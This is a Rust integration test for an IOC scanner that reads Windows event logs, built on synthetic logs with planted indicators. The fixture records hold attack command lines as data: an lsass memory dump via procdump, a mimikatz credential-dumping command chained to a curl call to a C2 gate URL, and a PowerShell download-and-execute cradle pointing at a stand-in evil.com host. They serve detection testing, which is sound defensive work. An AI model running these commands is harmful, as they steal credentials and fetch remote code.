//! Event logs through the real binary, on logs this test writes itself:
//! every IOC type is found in the fields where such values live, each hit
//! names its field and record; logs are recognised by content whatever their
//! name; damaged chunks and records are listed while the rest is scanned.

mod support;

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;

use serde_json::{Value, json};
use support::evtx::{Event, EventId, Payload, write_evtx};
use support::*;

const SYSMON: &str = "Microsoft-Windows-Sysmon";
const SYSMON_CH: &str = "Microsoft-Windows-Sysmon/Operational";
const SHA256_A: &str = "1111111111111111111111111111111111111111111111111111111111111111";
const SHA1_A: &str = "2222222222222222222222222222222222222222";
const MD5_A: &str = "33333333333333333333333333333333";
const MD5_B: &str = "44444444444444444444444444444444";
const SHA256_C: &str = "5555555555555555555555555555555555555555555555555555555555555555";

/// Records with planted values (ids 1–20) among benign filler (ids 100+)
/// spread over several chunks.
fn events() -> Vec<Event> {
    let mut v = Vec::new();
    v.push(Event::new(
        1,
        SYSMON,
        1,
        SYSMON_CH,
        &[
            ("Image", r"C:\Tools\procdump64.exe"),
            (
                "Hashes",
                &format!(
                    "SHA1={},MD5={},SHA256={},IMPHASH=ABCDEF",
                    SHA1_A.to_uppercase(),
                    MD5_A,
                    SHA256_A.to_uppercase()
                ),
            ),
            (
                "CommandLine",
                r#"cmd.exe /c "procdump64.exe -ma lsass.exe out.dmp""#,
            ),
            ("ParentImage", r"C:\Windows\System32\cmd.exe"),
        ],
    ));
    let mut partial = Event::new(
        2,
        SYSMON,
        1,
        SYSMON_CH,
        &[
            ("Image", r"C:\Users\bob\AppData\Local\Temp\x.exe"),
            ("Hashes", &format!("MD5={MD5_B},IMPHASH=00FF")),
        ],
    );
    partial.event_id = EventId::Text("1".into());
    v.push(partial);
    v.push(Event::new(
        3,
        SYSMON,
        3,
        SYSMON_CH,
        &[
            ("Image", r"C:\Windows\System32\rundll32.exe"),
            ("SourceIp", "10.0.0.5"),
            ("DestinationIp", "203.0.113.50"),
            ("DestinationHostname", "beacon.c2.example.net"),
        ],
    ));
    v.push(Event::new(
        4,
        SYSMON,
        3,
        SYSMON_CH,
        &[("DestinationIp", "::ffff:198.51.100.7")],
    ));
    v.push(Event::new(
        5,
        SYSMON,
        3,
        SYSMON_CH,
        &[("DestinationIp", "2001:db8::dead")],
    ));
    for i in 100..400 {
        v.push(Event::new(
            i,
            SYSMON,
            1,
            SYSMON_CH,
            &[
                ("Image", r"C:\Windows\System32\svchost.exe"),
                ("Hashes", &format!("SHA256={:064X}", i)),
                (
                    "CommandLine",
                    r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
                ),
                ("ParentImage", r"C:\Windows\System32\services.exe"),
            ],
        ));
    }
    v.push(Event::new(
        6,
        SYSMON,
        22,
        SYSMON_CH,
        &[("QueryName", "a.b.evil.com")],
    ));
    v.push(Event::new(
        7,
        SYSMON,
        22,
        SYSMON_CH,
        &[("QueryName", "notevil.com")],
    ));
    v.push(Event::new(
        8,
        SYSMON,
        13,
        SYSMON_CH,
        &[
            (
                "TargetObject",
                r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater",
            ),
            ("Details", r"C:\Users\Public\upd.exe"),
        ],
    ));
    v.push(Event::new(
        9,
        "Microsoft-Windows-Security-Auditing",
        4657,
        "Security",
        &[
            (
                "ObjectName",
                r"\REGISTRY\MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
            ),
            ("ObjectValueName", "Updater"),
        ],
    ));
    v.push(Event::new(10, "Microsoft-Windows-PowerShell", 4104, "Microsoft-Windows-PowerShell/Operational", &[
        ("ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('https://dl.evil.com/stage2/payload.ps1')"),
    ]));
    v.push(Event::new(
        11,
        "Service Control Manager",
        7045,
        "System",
        &[
            ("ServiceName", "PSEXESVC"),
            ("ImagePath", r#""C:\Windows\Temp\PSEXESVC.exe" -svc"#),
        ],
    ));
    v.push(Event::new(
        12,
        "Microsoft-Windows-Security-Auditing",
        4624,
        "Security",
        &[("TargetUserName", "admin"), ("IpAddress", "192.168.56.101")],
    ));
    v.push(Event::new(
        13,
        "Microsoft-Windows-Security-Auditing",
        4624,
        "Security",
        &[("IpAddress", "-")],
    ));
    let mut user_data = Event::new(14, "Microsoft-Windows-Eventlog", 1105, "Security", &[]);
    user_data.payload = Payload::UserData(
        "AutoBackup".into(),
        vec![
            ("Channel".into(), "Security".into()),
            (
                "BackupPath".into(),
                r"C:\Windows\Temp\sec-backup.evtx".into(),
            ),
        ],
    );
    v.push(user_data);
    v.push(Event::new(
        15,
        "CustomAV",
        1116,
        "Application",
        &[("FileHash", SHA256_C)],
    ));
    v.push(Event::new(
        16,
        SYSMON,
        1,
        SYSMON_CH,
        &[
            ("Image", r"C:\t\m.exe"),
            (
                "CommandLine",
                r"C:\t\m.exe sekurlsa::logonpasswords & curl http://10.9.9.9/gate.php?id=1",
            ),
        ],
    ));
    // A user's keys as Sysmon names them: by SID, classes as `_Classes`.
    v.push(Event::new(
        17,
        SYSMON,
        13,
        SYSMON_CH,
        &[(
            "TargetObject",
            r"HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\RunOnce\x",
        )],
    ));
    v.push(Event::new(
        18,
        SYSMON,
        13,
        SYSMON_CH,
        &[(
            "TargetObject",
            r"HKU\S-1-5-21-1-2-3-1001_Classes\ms-settings\Shell\Open\command\(Default)",
        )],
    ));
    v.push(Event::new(
        19,
        SYSMON,
        13,
        SYSMON_CH,
        &[(
            "TargetObject",
            r"HKU\S-1-5-21-1-2-3-1001_Classes\exefile\shell\open\command\(Default)",
        )],
    ));
    v
}

fn bundle(dir: &Path) -> std::path::PathBuf {
    let ad = |id: &str| json!({"id": id, "name": format!("Alert {id}"), "severity": "High"});
    let ioc = |id: &str, t: &str, v: &str, f: &str| json!({"id": id, "alertDefinitionId": "ad", "type": t, "value": v, "detectionFunction": f});
    let b = json!({
        "alertDefinitions": [ad("ad")],
        "iocs": [
            ioc("sha256", "Sha256", SHA256_A, "Equals"),
            ioc("sha1", "Sha1", SHA1_A, "Equals"),
            ioc("md5-partial", "Md5", MD5_B, "Equals"),
            ioc("sha256-plain", "Sha256", SHA256_C, "Equals"),
            ioc("tool", "FileName", "procdump64.exe", "Equals"),
            ioc("psexesvc", "FileName", "psexesvc.exe", "Equals"),
            ioc("temp-path", "FilePath", r"C:\Users\bob\AppData\Local\Temp\", "StartWith"),
            ioc("backup", "FilePath", r"\Temp\sec-backup.evtx", "EndWith"),
            ioc("c2-range", "IpAddress", "203.0.113.0/24", "Equals"),
            ioc("mapped", "IpAddress", "198.51.100.7", "Equals"),
            ioc("v6", "IpAddress", "2001:db8::/32", "Equals"),
            ioc("lan", "IpAddress", "192.168.56.0/24", "Equals"),
            ioc("c2-domain", "DomainName", "c2.example.net", "Equals"),
            ioc("evil-domain", "DomainName", "evil.com", "Equals"),
            ioc("url", "Url", "HTTPS://DL.EVIL.COM/stage2/", "StartWith"),
            ioc("gate", "Url", "/gate.php", "Contains"),
            ioc("run-key", "RegistryKey", r"HKEY_LOCAL_MACHINE\Software\Microsoft\Windows\CurrentVersion\Run", "StartWith"),
            ioc("mimi", "FileName", "sekurlsa::", "Contains"),
            ioc("never", "DomainName", "never-seen.example", "Equals"),
            ioc("hkcu-runonce", "RegistryKey", r"HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce", "StartWith"),
            ioc("hkcu-exefile", "RegistryKey", r"HKCU\Software\Classes\exefile\shell", "StartWith"),
            ioc("hkcr-ms", "RegistryKey", r"HKEY_CLASSES_ROOT\ms-settings\shell\open\command", "StartWith"),
            ioc("other-user", "RegistryKey", r"HKU\S-1-5-21-1-2-3-1002\Software\Microsoft\Windows\CurrentVersion\RunOnce", "StartWith"),
        ]
    });
    let p = dir.join("bundle.json");
    fs::write(&p, serde_json::to_vec_pretty(&b).unwrap()).unwrap();
    p
}

/// (ioc, record id, field) expected for one copy of the log.
fn expected() -> BTreeSet<(String, u64, String)> {
    [
        ("sha256", 1, "Hashes"),
        ("sha1", 1, "Hashes"),
        ("tool", 1, "Image"),
        ("tool", 1, "CommandLine"),
        ("md5-partial", 2, "Hashes"),
        ("temp-path", 2, "Image"),
        ("c2-range", 3, "DestinationIp"),
        ("c2-domain", 3, "DestinationHostname"),
        ("mapped", 4, "DestinationIp"),
        ("v6", 5, "DestinationIp"),
        ("evil-domain", 6, "QueryName"),
        ("run-key", 8, "TargetObject"),
        ("run-key", 9, "ObjectName"),
        ("url", 10, "ScriptBlockText"),
        ("evil-domain", 10, "ScriptBlockText"),
        ("psexesvc", 11, "ImagePath"),
        ("lan", 12, "IpAddress"),
        ("backup", 14, "BackupPath"),
        ("sha256-plain", 15, "FileHash"),
        ("mimi", 16, "CommandLine"),
        ("gate", 16, "CommandLine"),
        ("hkcu-runonce", 17, "TargetObject"),
        ("hkcr-ms", 18, "TargetObject"),
        ("hkcu-exefile", 19, "TargetObject"),
    ]
    .iter()
    .map(|(i, r, f)| (i.to_string(), *r, f.to_string()))
    .collect()
}

fn scan(bundle: &Path, target: &Path, out: &Path) -> (Run, Value) {
    scan_to(bundle, out, target, &[])
}

#[test]
fn every_ioc_type_is_found_in_records_with_its_field() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("ev");
    let log = write_evtx(&events());
    assert!(
        log.len() > 4096 + 2 * 65536,
        "the fixture should span several chunks"
    );
    let logs = root.join("Windows/System32/winevt/Logs");
    fs::create_dir_all(&logs).unwrap();
    fs::write(
        logs.join("Microsoft-Windows-Sysmon%4Operational.evtx"),
        &log,
    )
    .unwrap();
    // Recognised by content, not by name.
    fs::create_dir_all(root.join("exfil")).unwrap();
    fs::write(root.join("exfil/notes.dat"), &log).unwrap();
    let bundle = bundle(dir.path());
    let (run, report) = scan(&bundle, &root, &dir.path().join("r.json"));
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(report["errors"], json!([]));
    let records = events().len() as u64;
    assert_eq!(report["sources"][0]["recordsScanned"], 2 * records);
    let want = expected();
    assert_eq!(
        record_hits(
            &report,
            Some("/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx")
        ),
        want
    );
    assert_eq!(record_hits(&report, Some("/exfil/notes.dat")), want);
    assert_eq!(report["summary"]["evidence"], 2 * want.len());
}

#[test]
fn full_parse_without_the_prefilter_finds_the_same() {
    // A regex IOC has no necessary literal, so every record is parsed and
    // matched in full: results must not depend on the prefilter.
    let dir = tempfile::tempdir().unwrap();
    let log_path = dir.path().join("Sysmon.evtx");
    fs::write(&log_path, write_evtx(&events())).unwrap();
    let bundle = bundle(dir.path());
    let mut b: Value = serde_json::from_slice(&fs::read(&bundle).unwrap()).unwrap();
    b["iocs"]
        .as_array_mut()
        .unwrap()
        .push(json!({"id": "rx", "alertDefinitionId": "ad",
        "type": "FileName", "value": r"^[0-9a-f]{41}$", "detectionFunction": "Regex"}));
    fs::write(&bundle, b.to_string()).unwrap();
    let (run, report) = scan(&bundle, &log_path, &dir.path().join("r.json"));
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(record_hits(&report, Some("/Sysmon.evtx")), expected());
}

#[test]
fn record_evidence_carries_the_record_and_its_log() {
    let dir = tempfile::tempdir().unwrap();
    let log_path = dir.path().join("Security.evtx");
    let log = write_evtx(&events());
    fs::write(&log_path, &log).unwrap();
    let bundle = bundle(dir.path());
    let (run, report) = scan(&bundle, &log_path, &dir.path().join("r.json"));
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(report["sources"][0]["kind"], "file");
    let ev: Vec<&Value> = report["alerts"][0]["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["ioc"]["id"] == "md5-partial")
        .collect();
    assert_eq!(ev.len(), 1);
    let e = ev[0];
    assert_eq!(e["kind"], "record");
    assert_eq!(e["matchedValue"], MD5_B);
    let r = &e["record"];
    assert_eq!(r["recordId"], 2);
    // Stored as text "1", reported as a number.
    assert_eq!(r["eventId"], 1);
    assert_eq!(r["channel"], SYSMON_CH);
    assert_eq!(r["provider"], SYSMON);
    assert_eq!(r["computer"], "WS01.corp.example");
    assert_eq!(r["user"], "S-1-5-18");
    assert_eq!(r["timestamp"], "2023-11-14T22:13:22Z");
    assert_eq!(r["recovered"], false);
    assert_eq!(r["data"]["Image"], r"C:\Users\bob\AppData\Local\Temp\x.exe");
    assert_eq!(e["location"]["recordId"], 2);
    let display = e["location"]["display"].as_str().unwrap();
    assert!(display.ends_with("Security.evtx › record 2"), "{display}");
    // The log's own facts, with all three digests.
    assert_eq!(e["file"]["sha256"], sha256_hex(&log));
    assert_eq!(e["file"]["md5"], md5_hex(&log));
    assert_eq!(e["file"]["size"], log.len());

    let ud = report["alerts"][0]["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["ioc"]["id"] == "backup")
        .unwrap();
    assert_eq!(
        ud["record"]["data"]["BackupPath"],
        r"C:\Windows\Temp\sec-backup.evtx"
    );
}

/// Offset of the record with `id` in the file.
fn record_offset(log: &[u8], id: u64) -> usize {
    (0..log.len() - 24)
        .find(|&i| log[i..i + 4] == [0x2a, 0x2a, 0, 0] && log[i + 8..i + 16] == id.to_le_bytes())
        .expect("record present")
}

#[test]
fn damaged_chunks_and_records_are_listed_and_the_rest_is_scanned() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = write_evtx(&events());
    let chunks = (log.len() - 4096) / 65536;
    assert!(chunks >= 3);
    // Chunk 1 (filler only) loses its magic; record 3 gets an invalid token
    // where its BinXML starts.
    log[4096 + 65536..4096 + 65536 + 8].copy_from_slice(b"XXXXXXXX");
    let r3 = record_offset(&log, 3);
    log[r3 + 24 + 4] = 0xEE;
    let path = dir.path().join("dirty.evtx");
    fs::write(&path, &log).unwrap();
    let bundle = bundle(dir.path());
    let (run, report) = scan(&bundle, &path, &dir.path().join("r.json"));
    assert_eq!(run.code, 1, "{}", run.stderr);

    let errors = report["errors"].as_array().unwrap();
    let kinds: Vec<(&str, &str)> = errors
        .iter()
        .map(|e| (e["kind"].as_str().unwrap(), e["message"].as_str().unwrap()))
        .collect();
    assert_eq!(kinds.len(), 2, "{kinds:?}");
    assert!(
        kinds
            .iter()
            .any(|(k, m)| *k == "corruptChunk" && m.starts_with("chunk 1:")),
        "{kinds:?}"
    );
    assert!(
        kinds
            .iter()
            .any(|(k, m)| *k == "corruptRecord" && m.starts_with("record 3 in chunk 0")),
        "{kinds:?}"
    );
    assert_eq!(report["scan"]["complete"], false);
    // Their coordinates are data too: chunk, record, byte offset.
    let chunk = errors.iter().find(|e| e["kind"] == "corruptChunk").unwrap();
    assert_eq!(chunk["chunk"], 1);
    assert_eq!(chunk["offset"], 4096 + 65536);
    assert!(chunk.get("record").is_none());
    let record = errors
        .iter()
        .find(|e| e["kind"] == "corruptRecord")
        .unwrap();
    assert_eq!(
        (&record["chunk"], &record["record"]),
        (&json!(0), &json!(3))
    );
    assert_eq!(record["offset"], 4096);

    // Everything outside the damage is still found.
    let mut want = expected();
    want.retain(|(_, r, _)| *r != 3);
    assert_eq!(record_hits(&report, Some("/dirty.evtx")), want);
}

#[test]
fn a_bundle_without_hash_iocs_still_parses_logs() {
    // With nothing to hash, only a file's first bytes are read — enough to
    // recognise a log.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("renamed.bin");
    fs::write(&path, write_evtx(&events())).unwrap();
    let b = write_bundle(
        dir.path(),
        json!([{"id": "d", "alertDefinitionId": 1, "type": "DomainName", "value": "EVIL.com"}]),
    );
    let (run, report) = scan(&b, &path, &dir.path().join("r.json"));
    assert_eq!(run.code, 1, "{}", run.stderr);
    let mut hits: Vec<u64> = report["alerts"][0]["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["record"]["recordId"].as_u64().unwrap())
        .collect();
    hits.sort();
    assert_eq!(hits, vec![6, 10]);
}

/// A log as Event Viewer exports it (headers renumbered from 1, the System
/// block keeping the original EventRecordID), whose chunk still holds, past
/// its live records, a stale copy of its last record: carving finds it.
#[test]
fn records_keep_both_numbers_and_carved_copies_are_not_listed_twice() {
    let dir = tempfile::tempdir().unwrap();
    let mut evs: Vec<Event> = events().into_iter().take(2).collect();
    for (i, e) in evs.iter_mut().enumerate() {
        e.system_record_id = Some(3669 + i as u64);
    }
    let mut stale = evs[1].clone();
    stale.record_id = 3;
    evs.push(stale);
    let mut log = write_evtx(&evs);
    // Cut the chunk's live records before the third: it becomes slack.
    let c = 4096;
    let u32_at = |b: &[u8], at: usize| u32::from_le_bytes(b[at..at + 4].try_into().unwrap());
    let third = u32_at(&log, c + 44) as usize;
    let second = 512 + u32_at(&log, c + 512 + 4) as usize;
    log[c + 16..c + 24].copy_from_slice(&2u64.to_le_bytes());
    log[c + 32..c + 40].copy_from_slice(&2u64.to_le_bytes());
    log[c + 44..c + 48].copy_from_slice(&(second as u32).to_le_bytes());
    log[c + 48..c + 52].copy_from_slice(&(third as u32).to_le_bytes());
    let data_crc = crc32fast::hash(&log[c + 512..c + third]);
    log[c + 52..c + 56].copy_from_slice(&data_crc.to_le_bytes());
    let mut h = crc32fast::Hasher::new();
    h.update(&log[c..c + 120]);
    h.update(&log[c + 128..c + 512]);
    let header_crc = h.finalize();
    log[c + 124..c + 128].copy_from_slice(&header_crc.to_le_bytes());

    let log_path = dir.path().join("exported.evtx");
    fs::write(&log_path, &log).unwrap();
    let bundle = bundle(dir.path());
    let (run, report) = scan(&bundle, &log_path, &dir.path().join("r.json"));
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(report["summary"]["errors"], 0, "{}", report["errors"]);
    assert_eq!(report["sources"][0]["recordsScanned"], 3);
    let ev: Vec<&Value> = report["alerts"][0]["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["ioc"]["id"] == "md5-partial")
        .collect();
    assert_eq!(ev.len(), 1, "the carved copy is not a second item");
    let r = &ev[0]["record"];
    assert_eq!(r["recordId"], 3670);
    assert_eq!(r["recordNumber"], 2);
    assert_eq!(r["chunk"], 0);
    assert_eq!(r["recovered"], false);
    assert_eq!(r["carvedCopies"], 1);
    assert_eq!(ev[0]["location"]["recordId"], 3670);
    assert_eq!(ev[0]["location"]["recordNumber"], 2);
    assert!(
        ev[0]["location"]["display"]
            .as_str()
            .unwrap()
            .ends_with("exported.evtx › record 3670")
    );
}

/// Security events of one id, each with one data field: (record id,
/// field, value).
fn security_events(event_id: u16, rows: &[(u64, &str, &str)]) -> Vec<u8> {
    let events: Vec<Event> = rows
        .iter()
        .map(|&(id, field, value)| {
            Event::new(
                id,
                "Microsoft-Windows-Security-Auditing",
                event_id,
                "Security",
                &[(field, value)],
            )
        })
        .collect();
    write_evtx(&events)
}

/// Scans `log` with `iocs`: (record id, IOC id, matched value) of every
/// evidence item, sorted.
fn embedded_hits(dir: &Path, log: &[u8], iocs: serde_json::Value) -> Vec<(u64, String, String)> {
    let path = dir.join("Security.evtx");
    fs::write(&path, log).unwrap();
    let b = write_bundle(dir, iocs);
    let (run, report) = scan(&b, &path, &dir.join("r.json"));
    assert_eq!(run.code, 1, "{}", run.stderr);
    let mut hits: Vec<(u64, String, String)> = report["alerts"][0]["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["record"]["recordId"].as_u64().unwrap(),
                e["ioc"]["id"].as_str().unwrap().to_string(),
                e["matchedValue"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    hits.sort();
    hits
}

fn owned(want: &[(u64, &str, &str)]) -> Vec<(u64, String, String)> {
    want.iter()
        .map(|(r, i, v)| (*r, i.to_string(), v.to_string()))
        .collect()
}

/// Addresses inside text (an RDP client's `address:port`, a UNC path, an
/// IPv6 address with its zone) are found; an address that only begins
/// like an IOC's (`192.168.1.100` for `192.168.1.1`) is not.
#[test]
fn addresses_inside_text_are_found_on_their_boundaries() {
    let dir = tempfile::tempdir().unwrap();
    let log = security_events(
        4624,
        &[
            (1, "ClientAddress", "10.0.2.16:45820"),
            (2, "CommandLine", r"net use \\10.0.0.5\share /user:x"),
            (3, "Param3", "fe80::80ac:4126:fa58:1b81%10"),
            (4, "CommandLine", "ping 192.168.1.100"),
            (5, "Message", "from 10.0.2.160 and 110.0.0.5"),
        ],
    );
    let ioc = |id: &str, v: &str| json!({"id": id, "alertDefinitionId": 1, "type": "IpAddress", "value": v});
    let iocs = json!([
        ioc("rdp", "10.0.2.16"),
        ioc("unc", "10.0.0.0/24"),
        ioc("v6", "fe80::80ac:4126:fa58:1b81"),
        ioc("near", "192.168.1.1")
    ]);
    let want = [
        (1, "rdp", "10.0.2.16:45820"),
        (2, "unc", "10.0.0.5"),
        (3, "v6", "fe80::80ac:4126:fa58:1b81%10"),
    ];
    assert_eq!(embedded_hits(dir.path(), &log, iocs), owned(&want));
}

/// Host names inside text (a UNC path, a mail address, an argument) match
/// DomainName IOCs on label boundaries, subdomains included; a name that
/// only contains the IOC's text (`notevil.example.com`) does not.
#[test]
fn host_names_inside_text_are_found_on_label_boundaries() {
    let dir = tempfile::tempdir().unwrap();
    let log = security_events(
        4688,
        &[
            (1, "CommandLine", r"net use \\files.evil.example\share"),
            (2, "Message", "mailed bob@evil.example."),
            (3, "Message", "visit notevil.example.com or evil.examples"),
            (4, "Message", "evil.example.com is another zone"),
        ],
    );
    let iocs =
        json!([{"id": "d", "alertDefinitionId": 1, "type": "DomainName", "value": "evil.example"}]);
    let want = [(1, "d", "files.evil.example"), (2, "d", "evil.example")];
    assert_eq!(embedded_hits(dir.path(), &log, iocs), owned(&want));
}

/// File names inside text (5145's share-relative name, a quoted name in a
/// message, a URL's path) match FileName IOCs on separator and quote
/// boundaries; a name that only ends like the IOC's (`wusa.exe` for
/// `a.exe`) or a UNC host does not.
#[test]
fn file_names_inside_text_are_found_on_separator_boundaries() {
    let dir = tempfile::tempdir().unwrap();
    let log = security_events(
        5145,
        &[
            (1, "RelativeTargetName", r"tools\a.exe"),
            (2, "Message", r#"blocked "A.EXE" and b.dll."#),
            (3, "Message", "ran wusa.exe and a.exe2 and xa.exe"),
            (4, "Message", r"\\a.exe\share and bob@a.exe"),
            (5, "url", "http://x.example/dl/a.exe?id=1"),
        ],
    );
    let iocs = json!([{"id": "f", "alertDefinitionId": 1, "type": "FileName", "value": "a.exe"}]);
    let want = [(1, "f", "a.exe"), (2, "f", "A.EXE"), (5, "f", "a.exe")];
    assert_eq!(embedded_hits(dir.path(), &log, iocs), owned(&want));
}

/// A bundle of `iocs` under one alert definition (id 1), in `dir`.
fn write_bundle(dir: &std::path::Path, iocs: serde_json::Value) -> std::path::PathBuf {
    let b = dir.join("b.json");
    let bundle =
        json!({"alertDefinitions": [{"id": 1, "name": "n", "severity": "Low"}], "iocs": iocs});
    fs::write(&b, bundle.to_string()).unwrap();
    b
}
